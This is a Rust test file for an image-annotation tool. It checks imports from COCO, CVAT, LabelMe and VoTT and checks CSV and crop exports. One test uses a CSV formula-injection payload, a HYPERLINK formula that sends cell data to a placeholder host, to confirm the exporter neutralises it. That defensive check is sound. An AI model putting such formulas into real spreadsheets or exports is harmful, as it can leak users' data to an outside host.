//! Values of other programs' files, all the way into an archive: what follows from the definition of a format, where the
//! picture or the layout of the folder has a say.

use std::fs;

use serde_json::json;
use tagscope::domain::{ImageRow, ProjectKind, UnitRect};
use tagscope::engine::import::{DatasetFormat, OpenKind, open_folder};
use tagscope::formats::Format;
use tagscope::storage::Archive;

use super::every::text;
use super::foreign::{folder, imported, reasons};
use super::imports::{export_archive_as, import_as};
use super::readers::turned;
use super::rig::picture;

fn all(archive: &Archive) -> Vec<ImageRow> {
    archive.page(0, 99).expect("page").rows
}

/// The regions of an image: tag, and left, top, width and height in pixels of a picture of 40 x 20.
fn regions(row: &ImageRow) -> Vec<(&str, [f32; 4])> {
    let rect = |rect: UnitRect| [rect.left * 40.0, rect.top * 20.0, rect.width * 40.0, rect.height * 20.0];
    row.regions
        .iter()
        .map(|region| (&*region.tag_name, rect(region.rect).map(|edge| (edge * 100.0).round() / 100.0)))
        .collect()
}

#[test]
fn boxes_that_only_fit_the_upright_picture_turn_its_listed_size() {
    let coco = json!({
        "images": [{"id": 1, "file_name": "1.jpg", "width": 40, "height": 20}, {"id": 2, "file_name": "2.jpg", "width": 40, "height": 20}],
        "annotations": [
            {"image_id": 1, "category_id": 1, "bbox": [2, 25, 10, 10]},
            {"image_id": 2, "category_id": 1, "bbox": [2, 25, 10, 10]},
        ],
        "categories": [{"id": 1, "name": "fork"}],
    });
    let home = folder(&[("coco.json", &coco.to_string()), ("2.jpg", "")]);
    fs::write(home.path().join("data/1.jpg"), turned((40, 20), 6)).expect("picture");
    let (archive, report) = imported(&home, DatasetFormat::Coco, "coco.json");
    let rows = all(&archive);
    assert_eq!((rows[0].width, rows[0].height), (20, 40));
    assert_eq!(rows[0].regions[0].rect, UnitRect::new(0.1, 0.625, 0.5, 0.25));
    let told = reasons(&report);
    assert!(told.iter().any(|line| line.starts_with("~1.jpg: its boxes exceed 40 x 20")), "{told:#?}");
    // Where EXIF turns nothing the box is outside, and stays there to be found.
    assert_eq!((rows[1].width, rows[1].height, rows[1].regions[0].rect.top), (40, 20, 1.25));
}

#[test]
fn tracks_of_a_video_are_on_the_frames_that_are_there() {
    let place = |frame: u32, outside: u8, left: u32| {
        format!("<box frame='{frame}' outside='{outside}' xtl='{left}' ytl='2' xbr='{}' ybr='12'/>", left + 10)
    };
    let page = format!(
        "<annotations><meta><task><original_size><width>40</width><height>20</height></original_size></task></meta>\
         <track id='0' label='car'>{}{}{}</track></annotations>",
        place(0, 0, 0),
        place(10, 0, 20),
        place(11, 1, 20)
    );
    let home = folder(&[("annotations.xml", &page)]);
    fs::create_dir(home.path().join("data/images")).expect("folder");
    for frame in [0, 5, 10, 11] {
        let name = format!("data/images/frame_{frame:06}.png");
        fs::write(home.path().join(name), picture(40, 20, 2)).expect("picture");
    }
    let (archive, report) = imported(&home, DatasetFormat::Cvat, "");
    let found: Vec<_> = all(&archive).iter().map(|row| regions(row)[0].1[0]).collect();
    assert_eq!(found, [0.0, 10.0, 20.0], "the frame between is on the straight line; nothing where the car is gone");
    assert_eq!((report.images_in, report.regions_in), (3, 3));
    assert!(reasons(&report).iter().any(|line| line.contains("interpolated")), "{:?}", reasons(&report));
}

#[test]
fn labelme_and_vott_are_read_from_their_folders() {
    let page = |name: &str, shapes: serde_json::Value| {
        json!({"version": "5.4.1", "flags": {}, "shapes": shapes, "imagePath": name, "imageData": null, "imageHeight": 20, "imageWidth": 40})
            .to_string()
    };
    let shape = |kind: &str, points| json!({"label": "fork", "points": points, "shape_type": kind, "flags": {}});
    let home = folder(&[
        ("set/1.json", &page("1.jpg", json!([shape("rectangle", json!([[14, 12], [4, 2]]))]))),
        ("set/2.json", &page("2.jpg", json!([shape("polygon", json!([[0, 0], [8, 0], [4, 6]]))]))),
        ("set/1.jpg", ""),
        ("set/2.jpg", ""),
    ]);
    let place = home.path().join("data/set");
    assert!(matches!(open_folder(&place), Ok(OpenKind::Dataset(DatasetFormat::Labelme, _))));
    let (archive, report) = imported(&home, DatasetFormat::Labelme, "set");
    let found: Vec<_> = all(&archive)
        .iter()
        .flat_map(|row| regions(row).into_iter().map(|(_, rect)| rect).collect::<Vec<_>>())
        .collect();
    assert_eq!((found, report.pictures), (vec![[4.0, 2.0, 10.0, 10.0], [0.0, 0.0, 8.0, 6.0]], 2));
    assert!(
        reasons(&report)
            .iter()
            .any(|line| line.contains("set/1.json: shapes[0]") || line.contains("1.json: shapes[0]"))
    );

    let asset = |name: &str, tags: &[&str]| {
        let bounds = json!({"left": 4, "top": 2, "width": 10, "height": 10});
        json!({"asset": {"name": name, "path": format!("file:C:/pics/{name}"), "size": {"width": 40, "height": 20}},
               "regions": [{"id": "r", "type": "RECTANGLE", "tags": tags, "boundingBox": bounds, "points": []}]})
    };
    let project = json!({"name": "Forks", "tags": [{"name": "fork"}, {"name": "spoon"}], "version": "2.2.0",
                         "assets": {"a": asset("1.jpg", &["spoon"]), "b": asset("2.jpg", &["fork"])}});
    let home = folder(&[("Forks-export.json", &project.to_string()), ("1.jpg", ""), ("2.jpg", "")]);
    let (archive, report) = imported(&home, DatasetFormat::Vott, "");
    let rows = all(&archive);
    assert_eq!((regions(&rows[0]), report.pictures), (vec![("spoon", [4.0, 2.0, 10.0, 10.0])], 2));
    assert_eq!(archive.kind(), ProjectKind::Detection);
}

#[test]
fn tags_that_look_like_formulas_survive_a_table() {
    let tag = "=HYPERLINK(\"http://x/?\"&A1,\"open\")";
    let coco = json!({
        "images": [{"id": 1, "file_name": "1.jpg", "width": 40, "height": 20}],
        "annotations": [{"image_id": 1, "category_id": 1, "bbox": [4, 2, 10, 10]}],
        "categories": [{"id": 1, "name": tag}],
    });
    let home = folder(&[("coco.json", &coco.to_string()), ("1.jpg", "")]);
    let (archive, _) = imported(&home, DatasetFormat::Coco, "coco.json");
    let out = home.path().join("table");
    export_as(archive, Format::Csv, &out);
    let table = text(&out.join("regions.csv"));
    assert!(table.contains(",\"'=HYPERLINK"), "{table}");
    assert!(text(&out.join("REPORT.md")).contains("formula"));
    let again = home.path().join("again");
    import_as(DatasetFormat::Csv, &out.join("regions.csv"), None, &again).expect("import");
    assert_eq!(regions(&all(&Archive::open(&again).expect("archive"))[0]), [(tag, [4.0, 2.0, 10.0, 10.0])]);
}

#[test]
fn crops_of_whole_pixels_have_exactly_those() {
    let boxes = [[4, 2, 10, 10], [1, 1, 3, 7], [13, 3, 26, 16], [0, 0, 40, 20]];
    let coco = json!({
        "images": [{"id": 1, "file_name": "1.jpg", "width": 40, "height": 20}],
        "annotations": boxes.map(|bbox| json!({"image_id": 1, "category_id": 1, "bbox": bbox})),
        "categories": [{"id": 1, "name": "fork"}],
    });
    let home = folder(&[("coco.json", &coco.to_string()), ("1.jpg", "")]);
    let (archive, _) = imported(&home, DatasetFormat::Coco, "coco.json");
    let out = home.path().join("crops");
    export_as(archive, Format::Crops, &out);
    let mut sizes: Vec<_> = super::rig::names_below(&out.join("crops"))
        .iter()
        .map(|name| {
            let probe = pixels::probe(&fs::read(out.join("crops").join(name)).expect("file")).expect("picture");
            [probe.width, probe.height]
        })
        .collect();
    sizes.sort_unstable();
    assert_eq!(sizes, [[3, 7], [10, 10], [26, 16], [40, 20]]);
}

/// Exports an archive as one format.
fn export_as(archive: Archive, format: Format, out: &std::path::Path) {
    export_archive_as(archive, vec![format], out);
}
